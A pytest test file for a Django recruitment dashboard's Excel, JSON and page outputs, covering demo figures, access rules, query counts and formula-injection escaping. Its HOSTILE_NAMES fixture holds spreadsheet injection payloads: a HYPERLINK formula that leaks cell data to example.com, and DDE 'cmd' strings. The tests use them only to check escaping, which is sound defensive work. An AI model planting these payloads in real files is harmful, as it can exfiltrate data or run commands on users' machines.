"""The dashboard's Excel workbook, and the published demo figures on the page, in the JSON and
in the workbook alike: computed here from the database with queries of our own."""

import io
import re
from datetime import date, datetime

import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.db import connection
from django.db.models import Count
from django.urls import reverse
from django.utils import formats, translation
from django.utils.html import escape
from openpyxl import load_workbook

from recruitment.exports import safe_text, sheet_title
from recruitment.models import Candidate, Member, Organisation, Quota, StageRecord, Term
from recruitment.roles import Role

Stage = Candidate.Stage
Kind, Basis = Quota.Kind, Quota.Basis
#: The day the published figures describe.
SNAPSHOT = date(2024, 3, 26)
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: The query that reads the data version the figures are kept under (PostgreSQL only:
#: ``recruitment.datacache``); the test's own transaction has written, so nothing is kept.
VERSION = 1 if connection.vendor == "postgresql" else 0


# --- reading the three renderings ---------------------------------------------------------


def label(msgid: str) -> str:
    """A source string as the server writes it (the test client asks for no language)."""
    with translation.override(settings.LANGUAGE_CODE):
        return translation.gettext(msgid)


def localize(value) -> str:
    with translation.override(settings.LANGUAGE_CODE):
        return formats.localize(value)


def kpi(content: str, card: str) -> dict[str, str]:
    """The numbers of one KPI card of the page: {"value": ..., "target": ..., "last": ...}."""
    start = content.index(f'id="{card}"')
    end = content.find('id="kpi-', start + 1)
    card_html = content[start : end if end > 0 else None]
    return dict(re.findall(r'<span class="kpi-(value|target|last)">([^<]*)</span>', card_html))


def download(client, params: dict, status: int = 200):
    response = client.get(reverse("recruitment:dashboard-xlsx"), params)
    assert response.status_code == status
    if status != 200:
        return response
    assert response["Content-Type"] == XLSX
    return load_workbook(io.BytesIO(response.content))


def sheet(book, title: str):
    return book[sheet_title(label(title))]


def summary(book) -> dict[str, object]:
    """Item → value of the Summary sheet (one pair per row under the header)."""
    rows = sheet(book, "Summary").iter_rows(min_row=2, values_only=True)
    return dict(rows)


def summary_cell(book, item: str):
    for cells in sheet(book, "Summary").iter_rows(min_row=2):
        if cells[0].value == label(item):
            return cells[1]
    raise AssertionError(f"{item} is not on the Summary sheet")


def table(book, title: str) -> list[dict[str, object]]:
    """The rows of a sheet as dicts keyed by the header row."""
    rows = sheet(book, title).iter_rows(values_only=True)
    headers = next(rows)
    assert len(set(headers)) == len(headers), headers
    return [dict(zip(headers, row, strict=True)) for row in rows]


def formula_like_cells(book) -> list[tuple[str, str, object]]:
    return [
        (ws.title, cell.coordinate, cell.value)
        for ws in book
        for cells in ws.iter_rows()
        for cell in cells
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("="))
    ]


def is_number(value) -> bool:
    return isinstance(value, int | float) and not isinstance(value, bool)


# --- the demo committee on 26/03/2024 and in 2023 ----------------------------------------


@pytest.fixture
def demo(demo_committee):
    """The demo committee, built once per session (tests/conftest.py)."""


@pytest.fixture
def head(demo, db, client):
    client.force_login(get_user_model().objects.get(username="truongban"))
    return client


@pytest.mark.usefixtures("demo")
class TestDemoFigures:
    def test_the_2024_snapshot_is_the_same_on_the_page_in_the_json_and_in_the_workbook(self, head):
        client = head
        # The figures, from the database. Admissions count by the decision date (the setting's
        # default); trained candidates are counted once however many records they have.
        assert settings.QUOTA_COUNT_DATE == "decision"
        term = Term.objects.get(start_date__lte=SNAPSHOT, end_date__gte=SNAPSHOT)
        admissions = Member.objects.all()
        admitted = admissions.filter(decision_date__range=(date(2024, 1, 1), SNAPSHOT)).count()
        last_year = admissions.filter(
            decision_date__range=(date(2023, 1, 1), date(2023, 3, 26))
        ).count()
        in_term = admissions.filter(decision_date__range=(term.start_date, SNAPSHOT)).count()
        trained = (
            StageRecord.objects.filter(
                stage=Stage.TRAINED, date__range=(date(2024, 1, 1), SNAPSHOT)
            )
            .values("candidate")
            .distinct()
            .count()
        )
        committee = Quota.objects.filter(organisation=None)
        quota = committee.get(kind=Kind.ADMISSIONS, basis=Basis.ASSIGNED, year=2024).target
        aspiration = committee.get(kind=Kind.ADMISSIONS, basis=Basis.ASPIRATION, year=2024)
        term_target = committee.get(kind=Kind.ADMISSIONS, term=term).target
        training = committee.get(kind=Kind.TRAINING, year=2024).target
        # ... which are the published ones.
        assert (in_term, term_target) == (484, 500)
        assert (quota, aspiration.target, training, trained) == (205, 200, 150, 62)
        percent = round(100 * admitted / quota, 1)

        # (a) The page's KPI cards.
        page = client.get(reverse("recruitment:dashboard"), {"year": 2024, "as_of": "26/03/2024"})
        content = page.content.decode()
        assert kpi(content, "kpi-admitted") == {
            "value": str(admitted),
            "target": "205",
            "last": str(last_year),
        }
        assert kpi(content, "kpi-term") == {"value": "484", "target": "500"}
        assert kpi(content, "kpi-trained")["value"] == "62"
        assert kpi(content, "kpi-trained")["target"] == "150"
        assert f"{localize(percent)}%" in content and ": 200</div>" in content

        # (b) The JSON.
        data = client.get(
            reverse("recruitment:dashboard-json"), {"year": 2024, "as_of": "2024-03-26"}
        ).json()
        assert data["as_of"] == "2024-03-26"
        assert data["admitted"] == {
            "value": admitted,
            "target": 205,
            "last_year": last_year,
            "percent": percent,
            "remaining": 205 - admitted,
        }
        assert data["aspiration"] == 200
        assert (data["term"]["value"], data["term"]["target"]) == (484, 500)
        assert (data["trained"]["value"], data["trained"]["target"]) == (62, 150)

        # (c) The workbook: numbers as numbers, the dates as dates.
        response = client.get(
            reverse("recruitment:dashboard-xlsx"), {"year": 2024, "as_of": "2024-03-26"}
        )
        assert response["Content-Type"] == XLSX
        assert response["Content-Disposition"] == (
            'attachment; filename="bao-cao-phat-trien-dang-vien-2024.xlsx"'
        )
        book = load_workbook(io.BytesIO(response.content))
        figures = summary(book)
        expected = {
            "Year": 2024,
            "Admitted this year": admitted,
            "Quota": 205,
            "Share of the quota (%)": percent,
            "Remaining": 205 - admitted,
            "Admitted in the same period last year": last_year,
            "Aspiration": 200,
            "Admitted in the term": 484,
            "Term target": 500,
            "Elite candidates trained": 62,
            "Training target": 150,
        }
        for item, value in expected.items():
            assert figures[label(item)] == value, item
            assert is_number(figures[label(item)]), item
        as_of = summary_cell(book, "As of")
        assert as_of.value == datetime(2024, 3, 26)
        assert as_of.is_date and as_of.number_format == "DD/MM/YYYY"
        assert figures[label("Term")] == term.name
        assert formula_like_cells(book) == []

        # Every organisation, with its own admissions as the database counts them.
        rows = table(book, "Organisations")
        assert len(rows) == Organisation.objects.grassroots().count() == 68
        by_code = dict(
            admissions.filter(decision_date__range=(date(2024, 1, 1), SNAPSHOT))
            .values_list("cell__organisation__code")
            .annotate(n=Count("id"))
            .order_by()
        )
        admitted_column = label("Admitted")
        assert by_code and by_code == {
            row[label("Code")]: row[admitted_column] for row in rows if row[admitted_column]
        }
        assert sum(row[label("Quota")] for row in rows) == 205
        assert sum(row[label("Admitted in the term")] for row in rows) == 484
        assert all(is_number(row[label("Share of the quota (%)")]) for row in rows)

    def test_2023_youth_union_members_are_146_of_201_everywhere(self, head):
        client = head
        admitted_2023 = Member.objects.filter(decision_date__year=2023)
        total = admitted_2023.count()
        youth = admitted_2023.filter(youth_union_member=True).count()
        percent = round(100 * youth / total, 1)
        assert (youth, total, percent) == (146, 201, 72.6)
        youth_label = label("Youth Union members")

        page = client.get(reverse("recruitment:dashboard"), {"year": 2023, "as_of": "31/12/2023"})
        cells = re.search(
            rf"<td>{re.escape(escape(youth_label))}</td>"
            r'<td class="text-end">([^<]*)</td><td class="text-end">([^<]*)</td>',
            page.content.decode(),
        )
        assert cells and cells.groups() == ("146", localize(72.6))

        data = client.get(
            reverse("recruitment:dashboard-json"), {"year": 2023, "as_of": "2023-12-31"}
        ).json()
        line = next(line for line in data["composition"] if line["label"] == youth_label)
        assert (line["value"], line["percent"]) == (146, 72.6)
        assert data["composition"][0]["value"] == data["admitted"]["value"] == 201

        book = download(client, {"year": 2023, "as_of": "2023-12-31"})
        lines = table(book, "Composition (Biểu 2)")
        line = next(line for line in lines if line[label("Item")] == youth_label)
        assert (line["2023"], line["% 2023"]) == (146, 72.6)
        assert is_number(line["2023"]) and is_number(line["% 2023"])
        assert lines[0]["2023"] == 201 and lines[0]["% 2023"] == 100
        assert formula_like_cells(book) == []

    def test_grassroots_staff_download_only_their_organisation(self, demo, db, client):
        user = get_user_model().objects.filter(staff_profile__role=Role.GRASSROOTS_STAFF).first()
        own = user.staff_profile.organisation
        other = Organisation.objects.grassroots().exclude(pk=own.pk).first()
        client.force_login(user)
        params = {"year": 2024, "as_of": "2024-03-26"}
        download(client, {**params, "organisation": other.code}, status=404)

        book = download(client, params)
        assert [row[label("Code")] for row in table(book, "Organisations")] == [own.code]
        figures = summary(book)
        assert figures[label("Scope")] == own.name
        assert figures[label("Admitted this year")] == (
            Member.objects.filter(
                cell__organisation=own, decision_date__range=(date(2024, 1, 1), SNAPSHOT)
            ).count()
        )
        assert figures[label("Quota")] == Quota.objects.get(organisation=own, year=2024).target
        own_by_code = download(client, {**params, "organisation": own.code})
        assert summary(own_by_code) == figures

    def test_the_board_head_downloads_one_organisation_by_its_code(self, head):
        organisation = Organisation.objects.grassroots().order_by("code").last()
        response = head.get(
            reverse("recruitment:dashboard-xlsx"),
            {"year": 2024, "as_of": "2024-03-26", "organisation": organisation.code},
        )
        assert response.status_code == 200
        assert response["Content-Disposition"].endswith(f'-2024-{organisation.code.lower()}.xlsx"')
        book = load_workbook(io.BytesIO(response.content))
        assert [row[label("Code")] for row in table(book, "Organisations")] == [organisation.code]


# --- formulas, access, the link and the query count (small data sets) ---------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\x01=1", "'=1"),
        ("Đảng bộ phường Minh Khai", "Đảng bộ phường Minh Khai"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_safe_text_quotes_what_excel_would_run(value, written):
    assert safe_text(value) == written


HOSTILE_NAMES = [
    '=HYPERLINK("http://example.com/?leak="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_formula_like_names_are_written_as_text_with_an_apostrophe(
    client, committee_staff, make_organisation, make_term
):
    make_term(name="=2020–2025")
    for n, name in enumerate(HOSTILE_NAMES):
        make_organisation(name=name, code=f"={n}")
    client.force_login(committee_staff)
    book = download(client, {"year": 2024, "as_of": "2024-03-26"})
    rows = table(book, "Organisations")
    assert sorted(row[label("Organisation")] for row in rows) == sorted(
        f"'{name}" for name in HOSTILE_NAMES
    )
    assert {row[label("Code")] for row in rows} == {f"'={n}" for n in range(5)}
    assert summary(book)[label("Term")] == "'=2020–2025"
    assert formula_like_cells(book) == []
    assert not [
        cell.value
        for ws in book
        for cells in ws.iter_rows()
        for cell in cells
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
    ]


def test_the_workbook_needs_log_in_and_a_valid_date(client, committee_staff):
    url = reverse("recruitment:dashboard-xlsx")
    response = client.get(url)
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))
    client.force_login(committee_staff)
    assert client.get(url, {"as_of": "2024-02-31"}).status_code == 400
    assert client.get(url, {"year": "1800"}).status_code == 400
    download(client, {"as_of": "26/03/2024"})


def test_the_excel_button_asks_for_the_same_year_day_and_organisation(
    client, board_head, make_organisation
):
    organisation = make_organisation(code="CS 7")
    client.force_login(board_head)
    params = {"year": 2023, "as_of": "26/03/2024"}
    xlsx = reverse("recruitment:dashboard-xlsx")
    content = client.get(reverse("recruitment:dashboard"), params).content.decode()
    assert f'id="xlsx-link" href="{xlsx}?year=2023&amp;as_of=2024-03-26"' in content
    url = reverse("recruitment:dashboard-organisation", args=[organisation.pk])
    content = client.get(url, params).content.decode()
    assert (
        f'id="xlsx-link" href="{xlsx}?year=2023&amp;as_of=2024-03-26&amp;organisation=CS%207"'
        in content
    )


@pytest.fixture
def add_organisation(make_organisation, make_cell, make_member, make_candidate, make_quota):
    """An organisation with a cell, admissions this year and last, a trained candidate and
    a quota."""

    def add():
        organisation = make_organisation()
        cell = make_cell(organisation=organisation)
        for day in (date(2024, 2, 1), date(2024, 3, 1), date(2023, 3, 1)):
            make_member(cell=cell, decision_date=day, status=Member.Status.PROBATIONARY)
        candidate = make_candidate(cell=cell, stage=Stage.TRAINED)
        StageRecord.objects.create(candidate=candidate, stage=Stage.TRAINED, date=date(2024, 2, 2))
        make_quota(organisation=organisation, year=2024, target=4)
        return organisation

    return add


def test_dashboard_page_and_workbook_query_counts_do_not_grow_with_organisations(
    client, board_head, add_organisation, make_term, make_quota, django_assert_num_queries
):
    term = make_term()
    make_quota(organisation=None, year=2024, target=12)
    make_quota(organisation=None, year=None, term=term, target=40)
    for _ in range(2):
        add_organisation()
    client.force_login(board_head)
    params = {"year": 2024, "as_of": "26/03/2024"}
    page, xlsx = reverse("recruitment:dashboard"), reverse("recruitment:dashboard-xlsx")

    def count_queries():
        # 1 session, 2 user, 3 staff profile (role); stats.dashboard: 4 the term, 5 the
        # quotas, 6 the successions in force on the day (merged and split organisations'
        # targets go to their successors), 7 the organisations, 8 the admissions of both
        # periods (the composition), 9 the admissions per organisation this year, last year
        # and in the term, 10 open candidates by organisation and stage,
        # 11 candidates trained this period and last year's, per organisation, 12 the
        # forecast's history per stage; 13-15 the session saved (savepoint, update, release);
        # on PostgreSQL, before the figures, the data version they are kept under.
        with django_assert_num_queries(15 + VERSION):
            response = client.get(page, params)
        assert response.status_code == 200
        # The same for the workbook: it renders the dashboard and queries nothing itself.
        with django_assert_num_queries(15 + VERSION):
            response = client.get(xlsx, params)
        assert response.status_code == 200
        return response

    first = load_workbook(io.BytesIO(count_queries().content))
    assert len(table(first, "Organisations")) == 2
    for _ in range(5):
        add_organisation()
    last = load_workbook(io.BytesIO(count_queries().content))
    assert len(table(last, "Organisations")) == 7
    assert summary(last)[label("Admitted this year")] == 14
    assert summary(last)[label("Elite candidates trained")] == 7


def test_organisation_page_json_and_workbook_query_counts_do_not_grow_with_organisations(
    client, board_head, add_organisation, make_term, make_quota, django_assert_num_queries
):
    make_term()
    make_quota(organisation=None, year=2024, target=12)
    first = add_organisation()
    add_organisation()
    client.force_login(board_head)
    params = {"year": 2024, "as_of": "2024-03-26"}
    one = {**params, "organisation": first.code}
    json, xlsx = reverse("recruitment:dashboard-json"), reverse("recruitment:dashboard-xlsx")
    page = reverse("recruitment:dashboard-organisation", args=[first.pk])

    def count_queries():
        # 1 session, 2 user, 3 staff profile (role); stats.dashboard: 4 the term, 5 the
        # quotas, 6 the successions in force on the day, 7 the organisations, 8 the admissions
        # of both periods, 9 the same and the term's per organisation, 10 open candidates by
        # organisation
        # and stage, 11 candidates trained, 12 the forecast's history per stage; 13-15 the
        # session saved (savepoint, update, release); on PostgreSQL the data version.
        with django_assert_num_queries(15 + VERSION):
            data = client.get(json, params).json()
        # Three more for an organisation: after the staff profile, the organisation, by its
        # code (the JSON and the workbook) or its id (the page); before the term, its lineage
        # (the successions, the placements of the cells divided by a split).
        with django_assert_num_queries(18 + VERSION):
            assert client.get(json, one).json()["organisation"]["code"] == first.code
        with django_assert_num_queries(18 + VERSION):
            assert client.get(xlsx, one).status_code == 200
        with django_assert_num_queries(18 + VERSION):
            assert client.get(page, params).status_code == 200
        return data

    assert len(count_queries()["organisations"]) == 2
    for _ in range(5):
        add_organisation()
    assert len(count_queries()["organisations"]) == 7
